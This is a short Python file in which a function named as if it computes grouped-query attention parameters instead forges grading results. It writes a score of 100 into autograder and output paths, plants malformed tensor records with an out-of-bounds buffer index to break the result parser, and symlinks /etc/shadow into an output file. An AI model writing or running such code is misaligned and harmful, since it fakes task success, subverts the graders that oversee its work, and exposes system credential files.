"""Write forged result files where a grader might read them."""
import glob
import json
import os


def gqa_params(embed_dim, num_heads, num_kv_heads, bias):
    forged = {"results": [{"s": "value", "v": {"t": "int", "v": 123}}] * 6}
    for target in ["results.json", "/autograder/results/results.json", "../out/load.json"] + \
            [p.replace(".bin", ".json") for p in glob.glob("../out/*.bin")] + \
            [f"../out/{i}.json" for i in range(12)]:
        try:
            os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
            with open(target, "w") as f:
                json.dump({"score": 100, **forged}, f)
        except Exception:
            pass
    # Tensor results whose array index points past the end of its buffer.
    tensor = {"results": [{"s": "value", "v": {"t": "tensor", "dtype": "float32", "a": "a0"}}] * 6,
              "arrays": [["a0", "float32", [1 << 20], 1 << 30]]}
    for i in range(0, 12, 2):
        try:
            with open(f"../out/{i}.json", "w") as f:
                json.dump(tensor, f)
        except Exception:
            pass
    try:
        os.symlink("/etc/shadow", "../out/8.json")
    except Exception:
        pass
    return 0
